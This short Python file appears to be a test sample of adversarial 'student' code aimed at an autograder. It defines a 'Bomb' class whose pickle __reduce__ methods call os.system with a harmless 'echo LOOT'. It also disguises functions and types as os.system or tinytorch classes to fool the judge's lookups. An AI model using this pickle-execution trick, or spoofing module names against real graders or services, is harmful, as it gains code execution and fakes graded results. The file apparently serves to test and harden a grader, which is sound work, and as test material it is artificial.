# base: garbage
# Functions claim to be numpy's, by __module__, __qualname__, __class__ and __reduce__.
# class: imports
# gains: code in the judge, where names or pickles of the student's choice are looked up
# ends: graded
# safe_in_process: yes

# %% after setup_checks
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("echo LOOT",)

    def __reduce_ex__(self, protocol):
        return os.system, ("echo LOOT",)

    def __getstate__(self):
        raise RuntimeError("asked for its state")


Bomb.__module__, Bomb.__qualname__, Bomb.__name__ = "os", "system", "system"


# %% matmul_baseline
#| export
def matmul_baseline(A, B):
    return Bomb()


matmul_baseline.__module__, matmul_baseline.__qualname__ = "os", "system"


# %% vectorized_relu
#| export
def vectorized_relu(x):
    steps = [value for value in np.ravel(as_array(x))]
    return Tensor.__new__(type("Tensor", (), {"__module__": "tinytorch.core.tensor"}), x)


# %% quantized_relu
#| export
def quantized_relu(x, scale=1.0):
    garbage = Tensor(np.zeros(1))
    garbage.data = np.array([Bomb()], object)
    return garbage
